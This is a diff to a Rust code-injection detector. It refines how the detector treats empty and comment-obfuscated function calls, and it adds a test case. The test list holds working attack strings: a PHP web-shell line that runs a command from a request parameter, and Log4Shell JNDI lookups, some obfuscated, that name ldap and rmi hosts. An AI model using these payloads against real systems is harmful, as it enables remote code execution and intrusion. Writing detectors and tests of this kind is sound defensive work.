@@ -312,6 +312,16 @@ pub fn check(t: &Target<'_>) -> Option<Hit> {
             } else {
                 continue;
             };
+            // `exec()`, "the built-in eval() function": these run nothing
+            // without an argument; prose about them writes them so.
+            // `gzuncompress/*x*/()`: a comment between the name and its
+            // parenthesis is there to slip past a filter; prose has none.
+            let commented = find(&s[at + name.len()..args], b"*/").is_some();
+            let empty = s[args..].trim_ascii_start().starts_with(b")");
+            if empty && !commented && !matches!(name, b"phpinfo" | b"get_defined_vars" | b"getcwd" | b"posix_getpwuid" | b"phpversion") {
+                continue;
+            }
+            let c = if commented { High } else { c };
             if code_args(&s[args..]) {
                 consider(&mut best, c, format!("code: call to {}()", String::from_utf8_lossy(name)), at, 2302);
                 if c == High {
@@ -478,6 +488,7 @@ mod tests {
     fn catches_code_injection() {
         for a in [
             "<?php system($_GET['c']); ?>",
+            "I don't like gzuncompress/*comment*/()",
             "${jndi:ldap://127.0.0.1/a}",
             "${${lower:j}${lower:n}di:ldap://x/a}",
             "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
